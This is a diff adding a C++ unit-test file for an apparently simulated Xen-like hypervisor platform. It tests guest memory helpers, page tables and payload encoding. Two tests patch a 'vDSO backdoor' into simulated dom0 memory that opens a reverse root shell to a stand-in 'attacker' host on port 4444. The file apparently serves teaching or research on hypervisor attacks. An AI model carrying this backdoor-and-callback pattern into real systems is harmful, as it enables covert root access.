@@ -1,0 +1,191 @@
+// Guest kernel: boot fingerprints, memory helpers, hypercall wrappers, the
+// vDSO backdoor trigger, and the platform glue.
+#include <gtest/gtest.h>
+
+#include <cstring>
+
+#include "guest/platform.hpp"
+
+namespace ii::guest {
+namespace {
+
+PlatformConfig small_config() {
+  PlatformConfig pc{};
+  pc.machine_frames = 8192;
+  pc.dom0_pages = 128;
+  pc.guest_pages = 64;
+  return pc;
+}
+
+class KernelFixture : public ::testing::Test {
+ protected:
+  KernelFixture() : platform{small_config()} {}
+  VirtualPlatform platform;
+};
+
+TEST_F(KernelFixture, StartInfoFingerprintInMemory) {
+  GuestKernel& g = platform.guest(0);
+  const auto mfn = g.pfn_to_mfn(kStartInfoPfn);
+  ASSERT_TRUE(mfn.has_value());
+  const auto bytes = platform.memory().frame_bytes(*mfn);
+  EXPECT_EQ(std::memcmp(bytes.data(), StartInfoLayout::kMagic,
+                        std::strlen(StartInfoLayout::kMagic)),
+            0);
+  std::uint16_t domid = 0xFFFF;
+  std::memcpy(&domid, bytes.data() + StartInfoLayout::kDomIdOffset,
+              sizeof domid);
+  EXPECT_EQ(domid, g.id());
+  std::uint64_t nr = 0;
+  std::memcpy(&nr, bytes.data() + StartInfoLayout::kNrPagesOffset, sizeof nr);
+  EXPECT_EQ(nr, g.nr_pages());
+}
+
+TEST_F(KernelFixture, VdsoFingerprintInMemory) {
+  GuestKernel& dom0 = platform.dom0();
+  const auto mfn = dom0.pfn_to_mfn(kVdsoPfn);
+  const auto bytes = platform.memory().frame_bytes(*mfn);
+  EXPECT_EQ(std::memcmp(bytes.data(), VdsoLayout::kElfMagic, 4), 0);
+  EXPECT_EQ(std::memcmp(bytes.data() + VdsoLayout::kSignatureOffset,
+                        VdsoLayout::kSignature,
+                        std::strlen(VdsoLayout::kSignature)),
+            0);
+}
+
+TEST_F(KernelFixture, ReadWriteVirtGoThroughMmu) {
+  GuestKernel& g = platform.guest(0);
+  const auto pfn = g.alloc_pfn();
+  ASSERT_TRUE(pfn.has_value());
+  ASSERT_TRUE(g.write_u64(g.pfn_va(*pfn, 64), 0xABCDEF));
+  EXPECT_EQ(g.read_u64(g.pfn_va(*pfn, 64)), 0xABCDEF);
+  // Unmapped VA fails instead of crashing.
+  EXPECT_FALSE(g.read_u64(sim::Vaddr{0x400000}).has_value());
+  EXPECT_FALSE(g.write_u64(sim::Vaddr{0x400000}, 1));
+}
+
+TEST_F(KernelFixture, AllocPfnStopsAtTableRegion) {
+  GuestKernel& g = platform.guest(0);
+  std::uint64_t count = 0;
+  while (g.alloc_pfn().has_value()) ++count;
+  // Pool = pages 2 .. first_table_pfn-1.
+  EXPECT_EQ(count, g.first_table_pfn().raw() - kFirstFreePfn.raw());
+}
+
+TEST_F(KernelFixture, TableGeometryMatchesBuilder) {
+  GuestKernel& g = platform.guest(0);
+  EXPECT_EQ(g.nr_pages(), 64u);
+  EXPECT_EQ(g.l1_table_count(), 1u);
+  EXPECT_EQ(g.first_table_pfn().raw(), 60u);
+  EXPECT_EQ(g.l4_mfn(), platform.hv().domain(g.id()).cr3());
+  EXPECT_EQ(g.l1_mfn(0), *g.pfn_to_mfn(sim::Pfn{60}));
+  EXPECT_EQ(g.l2_mfn(), *g.pfn_to_mfn(sim::Pfn{61}));
+  // The L1 slot of pfn 7 lives in the L1 table at index 7.
+  EXPECT_EQ(g.l1_slot_paddr(sim::Pfn{7}).raw(),
+            sim::mfn_to_paddr(g.l1_mfn(0)).raw() + 7 * 8);
+}
+
+TEST_F(KernelFixture, UnmapPfnMakesVaFault) {
+  GuestKernel& g = platform.guest(0);
+  const auto pfn = g.alloc_pfn();
+  ASSERT_TRUE(g.write_u64(g.pfn_va(*pfn), 7));
+  ASSERT_EQ(g.unmap_pfn(*pfn), hv::kOk);
+  EXPECT_FALSE(g.read_u64(g.pfn_va(*pfn)).has_value());
+}
+
+TEST_F(KernelFixture, PrintkMirrorsToXenConsole) {
+  GuestKernel& g = platform.guest(0);
+  g.printk("exploit step one");
+  ASSERT_FALSE(g.dmesg().empty());
+  EXPECT_NE(g.dmesg().back().find("exploit step one"), std::string::npos);
+  bool on_console = false;
+  for (const auto& line : platform.hv().console()) {
+    if (line.find("exploit step one") != std::string::npos) on_console = true;
+  }
+  EXPECT_TRUE(on_console);
+}
+
+TEST_F(KernelFixture, VdsoWithoutBackdoorDoesNothing) {
+  platform.dom0().invoke_vdso(0);
+  EXPECT_TRUE(platform.dom0().shell_sessions().empty());
+}
+
+TEST_F(KernelFixture, VdsoBackdoorOpensRootShell) {
+  platform.attacker().listen(4444);
+  // Patch the backdoor bytes directly (the use cases do it via intrusion).
+  GuestKernel& dom0 = platform.dom0();
+  VdsoBackdoor bd{};
+  bd.magic = VdsoLayout::kBackdoorMagic;
+  std::snprintf(bd.host, sizeof bd.host, "attacker");
+  bd.port = 4444;
+  const auto mfn = dom0.pfn_to_mfn(kVdsoPfn);
+  platform.memory().write(
+      sim::mfn_to_paddr(*mfn) + VdsoLayout::kBackdoorOffset,
+      {reinterpret_cast<const std::uint8_t*>(&bd), sizeof bd});
+
+  dom0.invoke_vdso(1000);
+  ASSERT_EQ(dom0.shell_sessions().size(), 1u);
+  const auto conns = platform.attacker().accepted(4444);
+  ASSERT_EQ(conns.size(), 1u);
+  conns[0]->send(net::Endpoint::Client, "whoami && hostname");
+  platform.pump();
+  EXPECT_EQ(conns[0]->poll(net::Endpoint::Client), "root\nxen-dom0");
+}
+
+TEST_F(KernelFixture, VdsoBackdoorToDeadListenerFailsQuietly) {
+  GuestKernel& dom0 = platform.dom0();
+  VdsoBackdoor bd{};
+  bd.magic = VdsoLayout::kBackdoorMagic;
+  std::snprintf(bd.host, sizeof bd.host, "attacker");
+  bd.port = 4445;  // nobody listening
+  const auto mfn = dom0.pfn_to_mfn(kVdsoPfn);
+  platform.memory().write(
+      sim::mfn_to_paddr(*mfn) + VdsoLayout::kBackdoorOffset,
+      {reinterpret_cast<const std::uint8_t*>(&bd), sizeof bd});
+  dom0.invoke_vdso(0);
+  EXPECT_TRUE(dom0.shell_sessions().empty());
+}
+
+TEST_F(KernelFixture, PlatformShape) {
+  EXPECT_EQ(platform.kernels().size(), 3u);  // dom0 + 2 guests
+  EXPECT_TRUE(platform.hv().injector_enabled());
+  EXPECT_EQ(platform.kernel_of(platform.dom0().id()), &platform.dom0());
+  EXPECT_EQ(platform.kernel_of(hv::DomainId{77}), nullptr);
+  EXPECT_NE(platform.network().find_host("guest01"), nullptr);
+  EXPECT_NE(platform.network().find_host("attacker"), nullptr);
+}
+
+TEST(Payload, EncodeDecodeRoundTrip) {
+  Payload p{};
+  p.op = PayloadOp::RunCommandAllDomains;
+  p.command = "echo hi > /tmp/x";
+  std::vector<std::uint8_t> buf(256);
+  const std::size_t n = p.encode(buf);
+  EXPECT_GT(n, p.command.size());
+  const auto back = Payload::decode({buf.data(), n});
+  ASSERT_TRUE(back.has_value());
+  EXPECT_EQ(back->command, p.command);
+  EXPECT_EQ(back->op, p.op);
+}
+
+TEST(Payload, DecodeRejectsGarbage) {
+  std::vector<std::uint8_t> buf(64, 0xAB);
+  EXPECT_FALSE(Payload::decode(buf).has_value());
+  EXPECT_FALSE(Payload::decode({buf.data(), 4}).has_value());
+}
+
+TEST(Payload, EncodeRejectsOverflow) {
+  Payload p{};
+  p.command.assign(1000, 'x');
+  std::vector<std::uint8_t> buf(64);
+  EXPECT_THROW((void)p.encode(buf), std::length_error);
+}
+
+TEST(Payload, DecodeRejectsTruncatedCommand) {
+  Payload p{};
+  p.command = "0123456789";
+  std::vector<std::uint8_t> buf(256);
+  const std::size_t n = p.encode(buf);
+  EXPECT_FALSE(Payload::decode({buf.data(), n - 4}).has_value());
+}
+
+}  // namespace
+}  // namespace ii::guest
